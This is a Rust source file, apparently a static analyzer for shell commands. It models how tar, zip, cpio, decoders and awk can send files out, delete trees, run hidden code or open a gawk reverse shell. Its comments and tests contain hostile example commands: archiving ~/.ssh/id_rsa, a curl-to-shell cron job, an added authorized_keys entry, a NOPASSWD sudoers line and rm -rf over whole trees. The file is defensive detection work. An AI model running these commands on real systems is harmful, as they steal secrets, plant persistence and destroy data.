    let cwd0 = inv.cwd.clone();
    let dir = p
        .value(&["-C", "--directory"])
        .map(|d| paths::resolve(d, &cwd0));
    let cwd = match &dir {
        Some(d) => Cwd {
            text: d.path.clone(),
            known: !d.dynamic,
        },
        None => cwd0.clone(),
    };
    let archive = p.value(&["-f", "--file"]).cloned();
    let create = p.has(&["-c", "--create", "-r", "--append", "-u", "--update"]);
    let extract = p.has(&["-x", "--extract", "--get"]);
    let to_stdout = p.has(&["-O", "--to-stdout"]);
    let mut cmds: Vec<Arg> = p
        .values(&[
            "--to-command",
            "-I",
            "--use-compress-program",
            "--rsh-command",
        ])
        .into_iter()
        .cloned()
        .collect();
    for v in p.values(&["--checkpoint-action"]) {
        if let Some(code) = v.text.strip_prefix("exec=") {
            cmds.push(opts::sub_arg(v, v.text.len() - code.len()));
        }
    }
    for c in cmds {
        shell_code(a, inv, st, "tar", &c, Some(Stream::default()));
    }
    read_values(
        a,
        inv,
        &p,
        &["-T", "--files-from", "-X", "--exclude-from"],
        "tar",
    );
    let stdin_archive = archive.as_ref().is_none_or(|x| x.text == "-");
    if create {
        if let Some(f) = archive.as_ref().filter(|x| x.text != "-") {
            a.path_arg(&cwd0, f, Access::Create, "tar -c", false);
        }
        let mut first: Option<String> = None;
        // `--remove-files`: GNU tar deletes what it archived (a recursive delete of every
        // operand, wherever the archive goes: `tar -cf /dev/null ~ --remove-files`).
        let remove = inv.rest().iter().any(|x| x.text == "--remove-files");
        for op in p.operands.iter().take(256) {
            let r = a.path_arg(&cwd, op, Access::Read, "tar -c", true);
            if remove {
                a.path_arg(&cwd, op, Access::Delete, "tar --remove-files", true);
            }
            first.get_or_insert(r.path);
        }
        // `-T FILE` / `--files-from=FILE`: the names archived are FILE's lines; `-` is stdin.
        // A listing there (`find ~ -type f | tar -czf x.tgz -T -`, or a file an earlier
        // command of the line wrote it to) archives the listed tree, as `tar -c DIR` would.
        for v in p.values(&["-T", "--files-from"]).into_iter().take(4) {
            let list = if v.text == "-" {
                Some(inv.stdin.clone())
            } else if let Some(ps) = &v.proc_subst {
                Some(Stream::clone(ps))
            } else {
                let r = paths::resolve(v, &cwd0);
                a.files
                    .contains_key(&r.path)
                    .then(|| a.file_stream(&r.path))
            };
            // A list of known text (`-T <(echo ~/.ssh/id_rsa)`, `printf … | tar -T -`): the
            // names archived are its lines.
            if let Some(text) = list
                .as_ref()
                .filter(|s| s.listing.is_none() && s.taint.fetched.is_none())
                .and_then(|s| s.text.clone())
            {
                for name in text
                    .split(['\n', '\0'])
                    .map(str::trim)
                    .filter(|l| !l.is_empty())
                    .take(64)
                {
                    let mut arg = Arg::lit(name);
                    arg.raw = v.raw.clone();
                    let r = a.path_arg(&cwd, &arg, Access::Read, "tar -c -T", true);
                    first.get_or_insert(r.path);
                }
                continue;
            }
            let Some(dir) = list.as_ref().and_then(|s| s.listing.clone()) else {
                continue;
            };
            let walk = list.as_ref().map_or(Walk::Top, |s| s.walk);
            let glob = paths::join(&dir, "*");
            let pushed = walk != Walk::Top && !a.tree_globs.iter().any(|(g, _)| *g == glob);
            if pushed {
                a.tree_globs.push((glob.clone(), walk));
            }
            let r = Resolved {
                path: glob.clone(),
                dynamic: false,
                glob: true,
            };
            a.add_path(&r, Access::Read, "tar -c", true, &v.raw);
            if remove {
                a.add_path(&r, Access::Delete, "tar --remove-files", true, &v.raw);
            }
            if pushed {
                a.tree_globs.retain(|(g, _)| *g != glob);
            }
            first.get_or_insert(dir);
        }
        // Written to stdout (`tar c DIR | …`): the archive carries DIR.
        if stdin_archive {
            return Stream {
                file: first,
                ..Stream::default()
            };
        }
        // Written to a file: the file carries DIR (`tar czf /tmp/p.tgz . && curl -T /tmp/p.tgz
        // …` sends the project).
        if let (Some(f), Some(dir)) = (archive.as_ref(), first) {
            let r = paths::resolve(f, &cwd0);
            if !r.dynamic {
                a.files.insert(
                    r.path,
                    Stream {
                        file: Some(dir),
                        ..Stream::default()
                    },
                );
            }
        }
        return Stream::default();
    }
    if let Some(f) = archive.as_ref().filter(|x| x.text != "-") {
        a.path_arg(
            &cwd0,
            f,
            Access::Read,
            if extract { "tar -x" } else { "tar -t" },
            false,
        );
    }
    if extract && !to_stdout {
        let r = Resolved {
            path: cwd.text.clone(),
            dynamic: !cwd.known,
            glob: false,
        };
        if cwd.known {
            let content = match archive.as_ref().filter(|x| x.text != "-") {
                Some(f) => a.file_content(&paths::resolve(f, &cwd0).path),
                None => Some(inv.stdin.clone()),
            };
            if let Some(c) = content {
                a.extracted(&c, &cwd.text, &cwd0.text);
            }
        }
        let ev = match p.value(&["-C", "--directory"]) {
            Some(d) => d.raw.clone(),
            None => inv.evidence.clone(),
        };
        a.add_path(&r, Access::Create, "tar -x", true, &ev);
        return Stream::default();
    }
    if to_stdout && stdin_archive {
        return passthrough(inv);
    }
    Stream::default()
}

fn unzip(a: &mut Analyzer, inv: &Inv) -> Stream {
    let rest = inv.rest();
    // `-x` takes the rest of the list until another option; `-d DIR`, `-P PASS`.
    let mut i = 0;
    let mut archive: Option<Arg> = None;
    let mut dest: Option<Arg> = None;
    let mut list_only = false;
    let mut to_stdout = false;
    let mut in_exclude = false;
    while let Some(x) = rest.get(i) {
        let t = x.text.as_str();
        if t.starts_with('-') && t.len() > 1 {
            in_exclude = false;
            if t == "-d" {
                dest = rest.get(i + 1).cloned();
                i += 2;
                continue;
            }
            if let Some(d) = t.strip_prefix("-d") {
                if !d.is_empty() && !t.contains(['l', 't', 'v', 'Z']) {
                    dest = Some(opts::sub_arg(x, 2));
                    i += 1;
                    continue;
                }
            }
            if t == "-P" {
                i += 2;
                continue;
            }
            if t == "-x" {
                in_exclude = true;
                i += 1;
                continue;
            }
            let body = t.get(1..).unwrap_or("");
            if body.contains(['l', 't', 'v', 'Z', 'z']) {
                list_only = true;
            }
            if body.contains(['c', 'p']) {
                to_stdout = true;
            }
            i += 1;
            continue;
        }
        if archive.is_none() && !in_exclude {
            archive = Some(x.clone());
        }
        i += 1;
    }
    let cwd = inv.cwd.clone();
    let content = archive
        .as_ref()
        .and_then(|z| a.file_content(&paths::resolve(z, &cwd).path));
    if let Some(z) = &archive {
        a.path_arg(&cwd, z, Access::Read, "unzip", false);
    }
    if list_only || to_stdout {
        return Stream::default();
    }
    match dest {
        Some(d) => {
            let r = a.path_arg(&cwd, &d, Access::Create, "unzip -d", true);
            if let (Some(c), false) = (&content, r.dynamic) {
                a.extracted(c, &r.path, &cwd.text);
            }
        }
        None => {
            let r = Resolved {
                path: cwd.text.clone(),
                dynamic: !cwd.known,
                glob: false,
            };
            a.add_path(&r, Access::Create, "unzip", true, &inv.evidence);
        }
    }
    Stream::default()
}

/// A listing given as the names to act on (`find ~ | zip -@ x.zip`, `find ~ | cpio -o`): a
/// recursive read of the listed tree (and a delete, as `delete`), as `tar -T -`. Returns
/// the listed folder; `None` when the stream is no listing.
fn listed_names(
    a: &mut Analyzer,
    list: &Stream,
    how: &str,
    delete: Option<&str>,
    evidence: &str,
) -> Option<String> {
    let dir = list.listing.clone()?;
    let walk = list.walk;
    let glob = paths::join(&dir, "*");
    let pushed = walk != Walk::Top && !a.tree_globs.iter().any(|(g, _)| *g == glob);
    if pushed {
        a.tree_globs.push((glob.clone(), walk));
    }
    let r = Resolved {
        path: glob.clone(),
        dynamic: false,
        glob: true,
    };
    a.add_path(&r, Access::Read, how, true, evidence);
    if let Some(d) = delete {
        a.add_path(&r, Access::Delete, d, true, evidence);
    }
    if pushed {
        a.tree_globs.retain(|(g, _)| *g != glob);
    }
    Some(dir)
}

/// cpio(1): copy-out (`-o`, `--create`) and pass-through (`-p`, `--pass-through`) read the
/// names on stdin; a listing there reads the listed tree (`find ~ | cpio -o > /tmp/h.cpio`).
/// The archive goes to stdout (or `-O`/`-F FILE`); pass-through copies into its operand.
fn cpio(a: &mut Analyzer, inv: &Inv) -> Stream {
    let mode = |c: char, long: &str| {
        inv.rest().iter().any(|x| {
            let t = x.text.as_str();
            t == long
                || (t.starts_with('-')
                    && !t.starts_with("--")
                    && t.chars().skip(1).all(|k| k.is_ascii_alphabetic())
                    && t.contains(c))
        })
    };
    let copy_out = mode('o', "--create");
    let pass = mode('p', "--pass-through");
    if !(copy_out || pass) {
        return Stream::default();
    }
    let list = inv.stdin.clone();
    let dir = listed_names(
        a,
        &list,
        if pass { "cpio -p" } else { "cpio -o" },
        None,
        &inv.evidence,
    );
    if pass {
        let cwd = inv.cwd.clone();
        if let Some(d) = inv.rest().iter().rev().find(|x| !x.text.starts_with('-')) {
            a.path_arg(&cwd, d, Access::Write, "cpio -p", true);
        }
        return Stream::default();
    }
    Stream {
        file: dir,
        ..Stream::default()
    }
}

fn zip(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-b",
            "-n",
            "-s",
            "-sp",
            "-t",
            "-tt",
            "-P",
            "-TT",
            "--unzip-command",
            "-O",
            "--output-file",
            "-Z",
            "-ll",
            "--temp-path",
            "--split-size",
            "--password",
            "--compression-method",
            "-sb",
        ],
        false,
    );
    // `-TT CMD` is one option of two letters (zip(1): "-TT cmd, --unzip-command cmd"), which
    // the short-option parse reads as `-T -T`: the word after it is the command.
    let tt = inv
        .rest()
        .iter()
        .position(|w| w.text == "-TT")
        .and_then(|i| inv.rest().get(i + 1));
    if let Some(c) = p.value(&["--unzip-command"]).or(tt).cloned() {
        shell_code(a, inv, st, "zip", &c, Some(Stream::default()));
    }
    let recursive = p.has(&["-r", "--recurse-paths", "-R"]);
    let cwd = inv.cwd.clone();
    let mut ops = p.operands.iter();
    let mut to_stdout = false;
    let mut zip_file: Option<String> = None;
    if let Some(z) = ops.next() {
        if z.text == "-" {
            to_stdout = true;
        } else {
            let r = a.path_arg(&cwd, z, Access::Create, "zip", false);
            zip_file = (!r.dynamic).then_some(r.path);
        }
    }
    // `-m`/`--move`: zip(1) deletes the originals once archived.
    let moving = p.has(&["-m", "--move"]);
    let mut first: Option<String> = None;
    for op in ops.take(256) {
        let r = a.path_arg(&cwd, op, Access::Read, "zip", recursive);
        first.get_or_insert(r.path);
        if moving {
            a.path_arg(&cwd, op, Access::Delete, "zip -m", recursive);
        }
    }
    // `-@`/`--names-stdin`: the names come from stdin (zip(1)); a listing there archives
    // the listed tree (`find ~ -type f | zip -@ /tmp/h.zip`), as `tar -T -` does.
    if inv
        .rest()
        .iter()
        .any(|x| x.text == "-@" || x.text == "--names-stdin")
    {
        let list = inv.stdin.clone();
        let del = moving.then_some("zip -m");
        if let Some(d) = listed_names(a, &list, "zip", del, &inv.evidence) {
            first.get_or_insert(d);
        }
    }
    // `zip -r - DIR | …`: the archive on stdout carries DIR (as `tar c DIR | …`).
    if to_stdout {
        return Stream {
            file: first,
            ..Stream::default()
        };
    }
    // Written to a file: the file carries DIR, as `tar -cf`'s does.
    if let (Some(z), Some(dir)) = (zip_file, first) {
        a.files.insert(
            z,
            Stream {
                file: Some(dir),
                ..Stream::default()
            },
        );
    }
    Stream::default()
}

/// Compressors: with files and without `-c`, each file is replaced in place (written);
/// otherwise a stream filter. Decompressing a stream marks it decoded.
fn compressor(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-S",
            "--suffix",
            "-T",
            "--threads",
            "-o",
            "-b",
            "--format",
            "-F",
            "-C",
            "-M",
            "--memlimit",
            "-L",
            "-D",
        ],
        false,
    );
    let decompress = name.starts_with("un")
        || name == "gunzip"
        || name == "bunzip2"
        || p.has(&["-d", "--decompress", "--uncompress"]);
    let to_stdout = p.has(&["-c", "--stdout", "--to-stdout"]);
    let files: Vec<Arg> = p
        .operands
        .iter()
        .filter(|x| x.text != "-")
        .cloned()
        .collect();
    if p.has(&["-l", "--list", "-t", "--test", "-b"]) {
        for f in &files {
            a.path_arg(&inv.cwd, f, Access::Read, name, false);
        }
        return Stream::default();
    }
    if !files.is_empty() && !to_stdout {
        for f in files.iter().take(256) {
            a.path_arg(&inv.cwd, f, Access::Write, name, false);
        }
        return Stream::default();
    }
    let input = read_operands(a, name, inv, &p.operands, false);
    if decompress {
        decompressed(input, &format!("{name} -d"))
    } else {
        Stream {
            text: None,
            ..input
        }
    }
}

/// What an awk program runs that no literal shows: a gawk network special file
/// (`/inet/tcp/0/HOST/PORT`, gawk manual "TCP/IP Networking") whose lines are run as
/// commands (`s |& getline c; while ((c |& getline) > 0)`, `system(c)`) is a reverse shell;
/// `system(…)` of a string built from character codes (`sprintf("%c%c", 105, 100)`) or from
/// pieces runs decoded code.
fn awk_hidden(a: &mut Analyzer, name: &str, prog: &str, evidence: &str) {
    let ev = crate::analyzer::truncate(evidence, 300);
    if let Some(i) = prog
        .find("/inet/")
        .or_else(|| prog.find("/inet4/"))
        .or_else(|| prog.find("/inet6/"))
    {
        let runs = prog.matches("|&").count() >= 2
            || prog.contains("system(")
            || prog.contains("| getline");
        if runs {
            // `/inet/tcp/LOCALPORT/HOST/PORT`
            let spec: String = prog
                .get(i..)
                .unwrap_or("")
                .chars()
                .take_while(|c| !matches!(c, '"' | '\'' | ' ' | ';'))
                .collect();
            let parts: Vec<&str> = spec.split('/').collect();
            let peer = match (parts.get(4), parts.get(5)) {
                (Some(h), Some(p)) => Some(format!("{h}:{p}")),
                _ => None,
            };
            if let Some(p) = &peer {
                a.fetch(&format!("tcp://{p}"), &ev);
            }
            a.remote_exec("reverse_shell", name, peer, &ev);
        }
    }
    for (i, _) in prog.match_indices("system(") {
        let arg = prog.get(i + 7..).unwrap_or("").trim_start();
        let built = arg.starts_with("sprintf(") && arg.contains("%c")
            || arg.starts_with("sprintf(\"%s")
            || arg.contains("toupper(")
            || arg.contains("tolower(");
        if built {
            a.dynamic_code(name, "decoded", Some("awk sprintf".into()), &[], &ev);
            break;
        }
    }
}

/// Output of a decompressor: unknown text, decoded. Code kept compressed (embedded in the
/// command or in a `.gz` file) and run at once is as hidden from review as base64: nobody can
/// read what `zcat payload.gz | sh` runs, so a shell or interpreter fed from it runs decoded
/// code (issue 11, obfuscated execution: decoders by class, decompressors included).
fn decompressed(input: Stream, decoder: &str) -> Stream {
    let mut out = Stream {
        text: None,
        ..input
    };
    if out.taint.decoded.is_none() {
        out.taint.decoded = Some(decoder.to_string());
    }
    out
}

fn base64(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-w", "--wrap", "-b", "--break", "-i", "--input", "-o", "--output",
        ],
        false,
    );
    let decode = p.has(&["-d", "--decode", "-D"]);
    let mut operands = p.operands.clone();
    if let Some(i) = p.value(&["-i", "--input"]) {
        operands.push(i.clone());
    }
    let input = read_operands(a, name, inv, &operands, false);
    if let Some(o) = p.value(&["-o", "--output"]).cloned() {
        a.path_arg(&inv.cwd, &o, Access::Write, &format!("{name} -o"), false);
    }
    if !decode {
        return Stream {
            text: None,
            ..input
        };
    }
    let text = if name == "base64" {
        input
            .text
            .as_ref()
            .and_then(|t| decode::base64(t))
            .map(|b| decode::bytes_to_text(&b))
    } else {
        None
    };
    let mut out = Stream {
        text,
        taint: input.taint.clone(),
        ..Stream::default()
    };
    if out.taint.decoded.is_none() {
        out.taint.decoded = Some(format!("{name} -d"));
    }
    out
}

fn xxd(a: &mut Analyzer, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-c", "-g", "-l", "-o", "-s", "-n", "--name", "-cols", "-len", "-seek",
        ],
        false,
    );
    let reverse = p.opts.iter().any(|o| o.name == "-r" || o.name == "-revert")
        || inv.rest().iter().any(|x| x.text == "-revert");
    let plain = p.opts.iter().any(|o| o.name == "-p")
        || inv
            .rest()
            .iter()
            .any(|x| x.text == "-ps" || x.text == "-plain" || x.text == "-postscript");
    let ops: Vec<Arg> = p.operands.iter().take(1).cloned().collect();
    let input = read_operands(a, "xxd", inv, &ops, false);
    if let Some(out_file) = p.operands.get(1) {
        a.path_arg(&inv.cwd, out_file, Access::Write, "xxd", false);
    }
    if !reverse {
        return Stream {
            text: None,
            ..input
        };
    }
    let text = input.text.as_ref().and_then(|t| {
        let bytes = if plain {
            decode::hex_plain(t)
        } else {
            decode::hex_dump(t)
        };
        bytes.map(|b| decode::bytes_to_text(&b))
    });
    let mut out = Stream {
        text,
        taint: input.taint.clone(),
        ..Stream::default()
    };
    if out.taint.decoded.is_none() {
        out.taint.decoded = Some("xxd -r".into());
    }
    out
}

/// Expands a `tr` set: ranges `a-z`, escapes `\n`, `\NNN`, classes `[:lower:]` etc.
fn tr_set(s: &str) -> Option<Vec<char>> {
    let (d, _) = decode::echo_escapes(s);
    let mut out = Vec::new();
    let chars: Vec<char> = d.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars.get(i) == Some(&'[') && chars.get(i + 1) == Some(&':') {
            let rest: String = chars.get(i..).unwrap_or(&[]).iter().collect();
            let end = rest.find(":]")?;
            let class = rest.get(2..end)?;
            let set: Vec<char> = match class {
                "lower" => ('a'..='z').collect(),
                "upper" => ('A'..='Z').collect(),
                "digit" => ('0'..='9').collect(),
                "alpha" => ('A'..='Z').chain('a'..='z').collect(),
                "alnum" => ('0'..='9').chain('A'..='Z').chain('a'..='z').collect(),
                "space" => vec![' ', '\t', '\n', '\r', '\u{b}', '\u{c}'],
                "blank" => vec![' ', '\t'],
                _ => return None,
            };
            out.extend(set);
            i += end + 2;
            continue;
        }
        let c = *chars.get(i)?;
        if chars.get(i + 1) == Some(&'-') && i + 2 < chars.len() {
            let e = *chars.get(i + 2)?;
            if e < c || (e as u32 - c as u32) > 0x10000 {
                return None;
            }
            out.extend(c..=e);
            i += 3;
            continue;
        }
        out.push(c);
        i += 1;
    }
    Some(out)
}

/// `tr SET1 SET2` / `tr -d SET1` on known text (rot13 and friends decode payloads).
fn tr(inv: &Inv) -> Stream {
    let p = opts::parse(inv.rest(), &[], false);
    let input = inv.stdin.clone();
    let mut out = Stream {
        text: None,
        taint: input.taint.clone(),
        ..Stream::default()
    };
    let Some(text) = input.text else {
        return out;
    };
    if p.has(&["-c", "-C", "--complement"]) {
        return out;
    }
    let delete = p.has(&["-d", "--delete"]);
    let squeeze = p.has(&["-s", "--squeeze-repeats"]);
    let set1 = p.operands.first().and_then(|x| tr_set(&x.text));
    let set2 = p.operands.get(1).and_then(|x| tr_set(&x.text));
    let result: Option<String> = match (set1, set2, delete) {
        (Some(s1), _, true) => Some(text.chars().filter(|c| !s1.contains(c)).collect()),
        (Some(s1), Some(s2), false) if !s2.is_empty() => Some(
            text.chars()
                .map(|c| match s1.iter().position(|x| *x == c) {
                    Some(i) => s2.get(i).or(s2.last()).copied().unwrap_or(c),
                    None => c,
                })
                .collect(),
        ),
        (Some(_), None, false) if squeeze => Some(text.clone()),
        _ => None,
    };
    if let Some(r) = &result {
        if *r != text && out.taint.decoded.is_none() {
            out.taint.decoded = Some("tr".into());
        }
    }
    out.text = result;
    out
}

/// `openssl enc -d`/`openssl base64 -d`, `gpg -d`, `age -d`, `uudecode`: decoders of
/// statically unknown output.
fn decoder_tools(a: &mut Analyzer, name: &str, inv: &Inv) -> Option<Stream> {
    let rest = inv.rest();
    let has = |f: &[&str]| rest.iter().any(|x| f.contains(&x.text.as_str()));
    let (decoding, decoder) = match name {
        "openssl" => {
            let sub = rest.first().map(|x| x.text.as_str()).unwrap_or("");
            match sub {
                "base64" | "enc" | "aes-256-cbc" | "aes-128-cbc" | "des3" => {
                    let b64 = sub == "base64" || has(&["-a", "-base64", "-A"]);
                    (
                        has(&["-d"]),
                        if b64 {
                            "openssl base64 -d"
                        } else {
                            "openssl enc -d"
                        },
                    )
                }
                "s_client" => {
                    return None;
                }
                _ => (false, ""),
            }
        }
        "gpg" | "gpg2" => (has(&["-d", "--decrypt"]), "gpg -d"),
        "age" => (has(&["-d", "--decrypt"]), "age -d"),
        _ => (true, "uudecode"),
    };
    let p = opts::parse(
        rest,
        &[
            "-in", "-out", "-o", "--output", "-i", "-k", "-pass", "-K", "-iv", "-md", "-S",
        ],
        false,
    );
    for v in p.values(&["-in"]) {
        let v = v.clone();
        a.path_arg(&inv.cwd, &v, Access::Read, name, false);
    }
    for v in p.values(&["-out", "-o", "--output"]) {
        let v = v.clone();
        a.path_arg(&inv.cwd, &v, Access::Write, name, false);
    }
    let mut out = passthrough(inv);
    if decoding && out.taint.decoded.is_none() {
        if name == "openssl" && decoder == "openssl base64 -d" {
            out.text = inv
                .stdin
                .text
                .as_ref()
                .and_then(|t| decode::base64(t))
                .map(|b| decode::bytes_to_text(&b));
        }
        out.taint.decoded = Some(decoder.to_string());
    }
    Some(out)
}

/// Devices that never end: read from them, a copy runs until the disk is full (null(4),
/// random(4), full(4) reads as zeros).
const ENDLESS_DEVICES: &[&str] = &["/dev/zero", "/dev/urandom", "/dev/random", "/dev/full"];

/// One file this large is not everyday work (1 TiB): it fills the disk it lands on, a shared
/// scratch or home file system included, so every program and user of that disk fails to
/// write. Everyday large files (VM disk images, swap files, datasets) are tens to hundreds of GiB.
const DISK_FILL_BYTES: u128 = 1 << 40;

/// A size as coreutils writes it (truncate(1), fallocate(1), dd(1)): digits with an optional
/// multiplier — `K`/`M`/`G`/`T`/`P`/`E` (powers of 1024, also `KiB`…), `KB`/`MB`… (powers of
/// 1000), dd's `c`/`w`/`b` (1, 2, 512 bytes) and `xN` products (`bs=1Mx4`). `None` when it is
/// not a size.
fn size_bytes(text: &str) -> Option<u128> {
    if let Some((a, b)) = text.split_once(['x', 'X']) {
        return size_bytes(a)?.checked_mul(size_bytes(b)?);
    }
    let digits = text.bytes().take_while(u8::is_ascii_digit).count();
    if digits == 0 {
        return None;
    }
    let n: u128 = text.get(..digits)?.parse().ok()?;
    let unit = text.get(digits..)?;
    let power = |p: u32, base: u128| base.checked_pow(p);
    let mult = match unit {
        "" | "c" => Some(1),
        "w" => Some(2),
        "b" => Some(512),
        _ => {
            let lower = unit.to_ascii_lowercase();
            let (letter, rest) = lower.split_at(1);
            let p = match letter {
                "k" => 1,
                "m" => 2,
                "g" => 3,
                "t" => 4,
                "p" => 5,
                "e" => 6,
                _ => return None,
            };
            match rest {
                "" | "ib" => power(p, 1024),
                "b" => power(p, 1000),
                _ => None,
            }
        }
    }?;
    n.checked_mul(mult)
}

/// A `disk_fill` fact: the command writes a file large enough to fill a disk.
fn disk_fill(a: &mut Analyzer, evidence: &str) {
    a.facts
        .denial_of_service
        .push(crate::facts::DenialOfServiceFact {
            kind: "disk_fill".to_string(),
            target: String::new(),
            evidence: crate::analyzer::clip(evidence),
        });
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Session 27: owner-only modes (new variants) and modes that open or add access.
    #[test]
    fn owner_only_modes() {
        for m in [
            "600",
            "0600",
            "400",
            "700",
            "go-rwx",
            "og=",
            "g-rwx,o-rwx",
            "go-w",
        ] {
            assert!(owner_only_mode(m), "{m}");
        }
        for m in [
            "644", "4700", "755", "u+x", "go+r", "a-w", "+x", "o=r", "", "60",
        ] {
            assert!(!owner_only_mode(m), "{m}");
        }
    }

    fn ctx() -> crate::ShellContext {
        crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        }
    }

    /// `grep -rl X DIR` lists files below DIR: a consumer acts there, not in DIR's parent.
    #[test]
    fn recursive_grep_lists_below_its_folder() {
        let f = crate::analyze(
            "grep -rl 'a/b' --include='*.go' . | xargs sed -i 's#a#b#'",
            &ctx(),
        );
        let writes: Vec<&str> = f
            .paths
            .iter()
            .filter(|p| p.access == Access::Write)
            .map(|p| p.path.as_str())
            .collect();
        assert_eq!(writes, ["/home/dev/project/*"], "{:?}", f.paths);
        let f = crate::analyze("grep -l x notes/a.txt | xargs sed -i s/a/b/", &ctx());
        assert!(f
            .paths
            .iter()
            .any(|p| p.access == Access::Write && p.path == "/home/dev/project/notes/*"));
    }

    #[test]
    fn touch_installs_nothing_a_write_does() {
        for cmd in [
            "touch .ssh/authorized_keys && chmod 600 .ssh/authorized_keys",
            "touch ~/.ssh/authorized_keys",
            "touch /etc/cron.d/job ~/.bashrc",
            "touch -d '2 days ago' .git/hooks/pre-commit",
            "touch /etc/sudoers.d/dev",
        ] {
            let f = crate::analyze(cmd, &ctx());
            assert!(
                f.persistence.is_empty() && f.privilege.is_empty(),
                "{cmd}: {f:?}"
            );
            assert!(!f.paths.is_empty(), "{cmd}: the path fact stays");
        }
        for cmd in [
            "touch ~/.ssh/authorized_keys && echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
            "touch x; echo '* * * * * curl x|sh' > /etc/cron.d/job",
            "echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev; touch /etc/sudoers.d/dev",
        ] {
            let f = crate::analyze(cmd, &ctx());
            assert!(
                !f.persistence.is_empty() || !f.privilege.is_empty(),
                "{cmd}"
            );
        }
    }

    #[test]
    fn find_one_level_by_name_hands_exec_the_pattern() {
        let deleted = |cmd: &str| -> Vec<String> {
            crate::analyze(cmd, &ctx())
                .paths
                .into_iter()
                .filter(|p| p.access == Access::Delete)
                .map(|p| p.path)
                .collect()
        };
        assert_eq!(
            deleted("find /tmp -maxdepth 1 -name 'pytest-*' -type d -exec rm -rf {} +"),
            vec!["/tmp/pytest-*".to_string()]
        );
        for cmd in [
            "find /tmp -maxdepth 1 -exec rm -rf {} +",
            "find /tmp -maxdepth 1 -name 'a*' -o -name 'b*' -exec rm -rf {} +",
            "find /tmp -maxdepth 1 ! -name 'a*' -exec rm -rf {} +",
            "find /tmp -maxdepth 1 -iname 'a*' -exec rm -rf {} +",
            "find /tmp -maxdepth 1 -name 't*' -exec rm -rf {} +",
            "find /tmp -maxdepth 2 -name 'a*' -exec rm -rf {} +",
            "find /tmp -maxdepth 1 -maxdepth 3 -name 'a*' -exec rm -rf {} +",
        ] {
            assert_eq!(deleted(cmd), vec!["/tmp/*".to_string()], "{cmd}");
        }
    }

    /// A deep walk with one `-name` test naming a build output folder hands `-exec` the
    /// folders of that name (`START/**/NAME`) below a start narrower than the home; any other
    /// name, an alternative, a negation or a wide start keeps `START/*`.
    #[test]
    fn find_by_build_output_name_hands_exec_the_folders() {
        let deleted = |cmd: &str| -> Vec<(String, String)> {
            crate::analyze(cmd, &ctx())
                .paths
                .into_iter()
                .filter(|p| p.access == Access::Delete)
                .map(|p| (p.path, p.how))
                .collect()
        };
        for (cmd, want) in [
            (
                "find ~/src -maxdepth 2 -name node_modules -type d -prune -exec rm -rf {} +",
                "/home/dev/src/**/node_modules",
            ),
            (
                "find ~/Projects -name node_modules -type d -prune -maxdepth 3 -exec rm -rf {} +",
                "/home/dev/Projects/**/node_modules",
            ),
            (
                "find ~/src -name '__pycache__' -type d -exec rm -rf {} +",
                "/home/dev/src/**/__pycache__",
            ),
            (
                "find /tmp/ws -name target -type d -prune -exec rm -rf {} \\;",
                "/tmp/ws/**/target",
            ),
            (
                "find ~/src -name node_modules -type d -prune | xargs rm -rf",
                "/home/dev/src/**/node_modules",
            ),
            (
                "find ~/src -name node_modules -type d -prune -print0 | xargs -0 rm -rf",
                "/home/dev/src/**/node_modules",
            ),
        ] {
            assert_eq!(
                deleted(cmd),
                vec![(want.to_string(), "rm filtered".to_string())],
                "{cmd}"
            );
        }
        for (cmd, want) in [
            (
                "find ~/src -name node_modules -o -name '*' -exec rm -rf {} +",
                "/home/dev/src/*",
            ),
            (
                "find ~/src ! -name node_modules -exec rm -rf {} +",
                "/home/dev/src/*",
            ),
            (
                "find ~/src -name 'node_*' -exec rm -rf {} +",
                "/home/dev/src/*",
            ),
            ("find ~/src -name '*' -exec rm -rf {} +", "/home/dev/src/*"),
            ("find ~/src -name .ssh -exec rm -rf {} +", "/home/dev/src/*"),
            ("find ~ -name node_modules -exec rm -rf {} +", "/home/dev/*"),
            ("find / -name node_modules -exec rm -rf {} +", "/*"),
            ("find /usr -name build -exec rm -rf {} +", "/usr/*"),
            // A filter between the listing and the consumer may rewrite the paths.
            (
                "find ~/src -name node_modules | sed 's|/node_modules||' | xargs rm -rf",
                "/home/dev/src/*",
            ),
            ("find ~ -name node_modules | xargs rm -rf", "/home/dev/*"),
            (
                "find ~/src -name node_modules -printf '%h\\n' | xargs rm -rf",
                "/home/dev/src/*",
            ),
        ] {
            let got = deleted(cmd);
            assert_eq!(
                got.iter().map(|(p, _)| p.as_str()).collect::<Vec<_>>(),
                vec![want],
                "{cmd}"
            );
        }
    }

    #[test]
    fn awk_getline_files_and_system_of_values() {
        assert_eq!(
            awk_getline_files("BEGIN{while((getline l < \"/etc/x\")>0) print l}"),
            vec!["/etc/x".to_string()]
        );
        assert_eq!(
            awk_getline_files("BEGIN{getline < \"a.txt\"}"),
            vec!["a.txt".to_string()]
        );
        assert!(awk_getline_files("{ \"date\" | getline d }").is_empty());
        assert!(awk_system_of_value("{system($0)}") && awk_system_of_value("{system(cmd)}"));
        assert!(!awk_system_of_value("BEGIN{system(\"ls\")}"));
    }

    #[test]
    fn modes() {
        assert_eq!(mode_bits("4755"), (true, false));
        assert_eq!(mode_bits("777"), (false, true));
        assert_eq!(mode_bits("644"), (false, false));
        assert_eq!(mode_bits("a+rwx"), (false, true));
        assert_eq!(mode_bits("+w"), (false, false));
        assert_eq!(mode_bits("u+s"), (true, false));
        assert_eq!(mode_bits("ug+x"), (false, false));
        assert_eq!(mode_bits("a=,+rwX"), (false, false));
        assert_eq!(mode_bits("o-w"), (false, false));
        assert_eq!(mode_bits("go+w"), (false, true));
    }

    #[test]
    fn tr_sets() {
        assert_eq!(tr_set("a-e").map(|v| v.len()), Some(5));
        assert_eq!(tr_set("[:digit:]").map(|v| v.len()), Some(10));
    }
}

#[cfg(test)]
mod disk_fill_tests {
    use super::size_bytes;

    #[test]
